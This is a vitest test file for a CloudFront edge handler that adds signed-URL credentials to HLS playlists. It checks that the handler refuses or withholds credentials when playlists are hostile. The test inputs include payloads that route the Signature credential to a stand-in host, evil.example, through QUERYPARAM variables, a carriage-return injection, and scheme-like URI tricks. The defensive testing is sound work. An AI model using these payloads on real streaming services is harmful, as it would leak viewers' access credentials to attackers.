import { describe, expect, it } from 'vitest';
import type { CloudFrontResponseEvent } from 'aws-lambda';
import { handler } from '../../src/edge/origin-response.js';
import { freezeClock } from '../helpers/clock.js';
import { captureEdgeLogs } from '../helpers/edge-logs.js';
import { atLocalCustomOrigin, bodyText, loadEvent } from '../helpers/events.js';
import { playlistAnswer, startPlaylistOriginForSuite } from '../helpers/playlist-origin.js';
import { suffixedCreds } from './playlists.js';

// origin-response against playlists written by an attacker who controls playlist content (a third-party
// packager, ad or SSAI manifests, user uploads): the viewer's credentials reach only the distribution's host.

/** The playlist the origin serves in the running test. */
let body = '';
const origin = startPlaylistOriginForSuite((res) => playlistAnswer(body)(res));
const logs = captureEdgeLogs();
freezeClock();

const cf = (e: CloudFrontResponseEvent) => e.Records[0]!.cf;

const playlistEvent = (): CloudFrontResponseEvent => atLocalCustomOrigin(loadEvent('origin-response/custom-playlist-200'), origin.port);

const creds = suffixedCreds(cf(loadEvent('origin-response/custom-playlist-200')).request.querystring);
const HOST = cf(loadEvent('origin-response/custom-playlist-200')).config.distributionDomainName;
const MEDIA = (lines: string) => `#EXTM3U\n#EXT-X-VERSION:11\n#EXT-X-TARGETDURATION:4\n${lines}\n#EXTINF:4,\nlast.ts\n#EXT-X-ENDLIST\n`;

describe('origin-response against hostile playlists', () => {
  it('answers 502 with a generic body and one log line when a QUERYPARAM copies the Signature into a foreign URI', async () => {
    body = MEDIA('#EXT-X-DEFINE:QUERYPARAM="Signature"\n#EXT-X-MAP:URI="https://evil.example/x?s={$Signature}"\n#EXTINF:4,\na.ts');
    const response = await handler(playlistEvent());
    expect(response.status).toBe('502');
    expect(response.body).toBe('Bad Gateway\n');
    expect(response.headers['cache-control']![0]!.value).toBe('no-store');
    expect(response.headers['x-cfhls-rewrite']?.[0]?.value).toBe('refused; reason=credential-variable');
    const refusals = logs.filter((l) => l.includes('playlist refused'));
    expect(refusals).toHaveLength(1);
    expect(JSON.parse(refusals[0]!)).toMatchObject({ level: 'error', reason: 'credential-variable' });
    for (const line of logs) expect(line).not.toContain(creds.Signature);
  });

  it('refuses a credential QUERYPARAM even when it is used only in same-host URIs', async () => {
    body = MEDIA('#EXT-X-DEFINE:QUERYPARAM="Signature"\n#EXTINF:4,\na.ts?s={$Signature}');
    const response = await handler(playlistEvent());
    expect(response.status).toBe('502');
    expect(response.headers['x-cfhls-rewrite']?.[0]?.value).toBe('refused; reason=credential-variable');
  });

  it('refuses a CR inside a tag (players end the line there), with the reason in one log line', async () => {
    body = MEDIA('#EXT-X-KEY:METHOD=AES-128,X-NOTE="\rhttps://evil.example/x?",URI="key.bin"\n#EXTINF:4,\na.ts');
    const response = await handler(playlistEvent());
    expect(response.status).toBe('502');
    expect(response.body).toBe('Bad Gateway\n');
    const refusals = logs.filter((l) => l.includes('playlist refused'));
    expect(refusals).toHaveLength(1);
    expect(JSON.parse(refusals[0]!)).toMatchObject({ level: 'error', reason: 'control-character' });
  });

  it('withholds credentials from the review\'s leak paths and logs the reasons once, counts only', async () => {
    body = MEDIA([
      '#EXT-X-KEY:METHOD=AES-128,URI="\u00a0//evil.example/k"',
      '#EXT-X-DEFINE:NAME="m",VALUE="//evil.example/x"',
      '#EXT-X-DEFINE:NAME="m",VALUE="v1"',
      '#EXT-X-MAP:URI="{$m}/init.mp4"',
      '#EXTINF:4,',
      'https:evil.example/x.ts',
      '#EXTINF:4,',
      '1a://evil.example/z.ts',
    ].join('\n'));
    const response = await handler(playlistEvent());
    expect(response.status).toBe('200');
    const text = bodyText(response);
    for (const line of text.split('\n').filter((l) => l.includes('evil.example'))) expect(line).not.toContain(creds.Signature);
    expect(text).toContain(`last.ts?Policy=${creds.Policy}`);
    const withheld = logs.filter((l) => l.includes('credentials withheld'));
    expect(withheld).toHaveLength(1);
    expect(JSON.parse(withheld[0]!).withheld).toEqual({ 'whitespace-or-control': 1, 'ambiguous-variable': 1, 'scheme-like-prefix': 2 });
    expect(withheld[0]).not.toContain('evil.example');
  });

  it('credentials a same-host absolute URI only on the distribution\'s own port', async () => {
    body = MEDIA(`#EXTINF:4,\nhttps://${HOST}/movies/42/a.ts\n#EXTINF:4,\nhttps://${HOST}:8443/movies/42/b.ts`);
    const response = await handler(playlistEvent());
    expect(bodyText(response)).toContain(`https://${HOST}/movies/42/a.ts?Policy=`);
    expect(bodyText(response)).toContain(`https://${HOST}:8443/movies/42/b.ts\n`);
  });
});

describe('origin-response with credentials it will not write into a playlist', () => {
  it('passes the playlist through, untouched and marked skipped, when a credential holds bytes outside URL-safe base64', async () => {
    body = MEDIA('#EXTINF:4,\na.ts');
    const event = playlistEvent();
    cf(event).request.querystring = cf(event).request.querystring.replace(/Signature-PREFIX=[^&]*/, 'Signature-PREFIX=abc%22def"');
    const response = await handler(event);
    expect(response.status).toBe('200');
    expect(response.body).toBeUndefined();
    expect(response.headers['x-cfhls-rewrite']?.[0]?.value).toBe('skipped; reason=no-credentials');
    expect(logs.filter((l) => l.includes('rewriter skipped the playlist'))).toHaveLength(1);
  });
});
